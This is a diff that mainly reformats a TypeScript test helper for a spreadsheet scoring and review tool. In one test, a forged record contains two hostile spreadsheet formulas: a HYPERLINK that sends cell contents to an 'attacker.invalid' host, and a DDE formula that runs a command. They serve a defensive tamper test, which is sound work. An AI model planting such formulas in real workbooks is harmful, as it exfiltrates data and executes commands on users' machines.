@@ -1,6 +1,14 @@
 import { readFileSync } from "fs";
 import { join } from "path";
-import { FILL_NOTE_PREFIX, NOTE_PREFIX, type CellAt, type CellValue, type Report, type Severity, type WorkbookGrid } from "../../src/engine";
+import {
+  FILL_NOTE_PREFIX,
+  NOTE_PREFIX,
+  type CellAt,
+  type CellValue,
+  type Report,
+  type Severity,
+  type WorkbookGrid,
+} from "../../src/engine";
 import { DEFAULT_SETTINGS, type PaneSettings, type TakeBackOutcome } from "../../src/app/host";
 import { encodeRecord } from "../../src/app/ownership/recordCodec";
 import { EMPTY_REVIEWS, reviewsNow, withFindingReview, withFormReview, type Reviews } from "../../src/app/review/decision";
@@ -28,7 +36,16 @@ export const OTHER_SHEET = "填报说明";
 export function scenarioWorkbook(): WorkbookGrid {
   const sheet = layoutSeedForms(seedRows(seedText), { sheet: SHEET, typed: true });
   for (const row of [13, 14, 17, 21]) sheet.values[row][7] = null;
-  const other = { name: OTHER_SHEET, originRow: 0, originCol: 0, values: [["填报人", "张三"], ["联系电话", "0994-1234567"], ["得分", 10]] };
+  const other = {
+    name: OTHER_SHEET,
+    originRow: 0,
+    originCol: 0,
+    values: [
+      ["填报人", "张三"],
+      ["联系电话", "0994-1234567"],
+      ["得分", 10],
+    ],
+  };
   return { sheets: [sheet, other] };
 }
 
@@ -48,7 +65,13 @@ function userState(d: ScenarioDriver, sheetName?: (name: string) => string): str
         const cell = { sheet: s.name, row: s.originRow + i, col: s.originCol + j };
         const formula = s.formulas?.[i]?.[j] ?? null;
         const format = s.numberFormats?.[i]?.[j] ?? null;
-        const state = [plain(v), formula?.startsWith("=") ? formula : null, format === "General" ? null : format, d.look.fill(cell), d.look.note(cell)];
+        const state = [
+          plain(v),
+          formula?.startsWith("=") ? formula : null,
+          format === "General" ? null : format,
+          d.look.fill(cell),
+          d.look.note(cell),
+        ];
         if (state.some((x) => x !== null)) out.push(JSON.stringify([sheetName ? sheetName(s.name) : s.name, cell.row, cell.col, ...state]));
       }),
     );
@@ -68,7 +91,9 @@ function firstMarked(report: Report): { cell: CellAt; severity: Severity } {
   const f = report.issues.find((x) => settings.mark.includes(x.severity));
   if (!f) throw new Error("the scenario workbook has no finding to mark");
   const cell = { sheet: f.sheet, row: f.row - 1, col: f.col - 1 };
-  const severity = report.issues.some((x) => x.sheet === f.sheet && x.row === f.row && x.col === f.col && x.severity === "error") ? "error" : f.severity;
+  const severity = report.issues.some((x) => x.sheet === f.sheet && x.row === f.row && x.col === f.col && x.severity === "error")
+    ? "error"
+    : f.severity;
   return { cell, severity };
 }
 
@@ -142,7 +167,8 @@ export function describeScenarios(name: string, make: (workbook: WorkbookGrid) =
         expect(live.look.filled(at(r))).toBe(true);
         // The reasoning behind the score, which ends in the score written ("9 / 12 × 5 = 3.75", "…得满分 10").
         const score = String(live.look.grid().sheets[0].values[r][7]);
-        if (live.addsNotes !== false) expect(live.look.note(at(r))?.startsWith(FILL_NOTE_PREFIX) && live.look.note(at(r))?.endsWith(score)).toBe(true);
+        if (live.addsNotes !== false)
+          expect(live.look.note(at(r))?.startsWith(FILL_NOTE_PREFIX) && live.look.note(at(r))?.endsWith(score)).toBe(true);
       }
       const notes = fillNotes(live);
       expect(notes).toHaveLength(live.addsNotes === false ? 0 : written);
@@ -162,7 +188,15 @@ export function describeScenarios(name: string, make: (workbook: WorkbookGrid) =
 
     it("the reviewer's decisions survive 填充得分, 校验, 清除标记 and 撤销填充", async () => {
       const reviews = {
-        findings: [{ key: "missing-reason|项目|指标:产出指标/数量指标/套数", values: "缺少偏差原因", decision: "accept" as const, note: "已电话核实", at: "2026-03-04T08:00:00.000Z" }],
+        findings: [
+          {
+            key: "missing-reason|项目|指标:产出指标/数量指标/套数",
+            values: "缺少偏差原因",
+            decision: "accept" as const,
+            note: "已电话核实",
+            at: "2026-03-04T08:00:00.000Z",
+          },
+        ],
         forms: [{ form: "项目", decision: "revise" as const, note: "请补充偏差原因", at: "2026-03-04T08:00:00.000Z" }],
       };
       await live.host().saveReviews(reviews);
@@ -339,7 +373,11 @@ export function describeScenarios(name: string, make: (workbook: WorkbookGrid) =
         reviews: { findings: [], forms: [] },
         sheets: [{ id: sheetId, name: SHEET }],
         // A budget zeroed, a weight replaced by a link, a reported score replaced by a DDE formula.
-        values: [aim(5, 3, { value: 0, formula: null }), aim(13, 6, { value: null, formula: '=HYPERLINK("http://attacker.invalid/?d="&B2,"核对")' }), aim(15, 7, { value: null, formula: "=cmd|' /C calc'!A0" })],
+        values: [
+          aim(5, 3, { value: 0, formula: null }),
+          aim(13, 6, { value: null, formula: '=HYPERLINK("http://attacker.invalid/?d="&B2,"核对")' }),
+          aim(15, 7, { value: null, formula: "=cmd|' /C calc'!A0" }),
+        ],
         notes: [],
       });
       both((d) => d.user.plantRecord(forged));
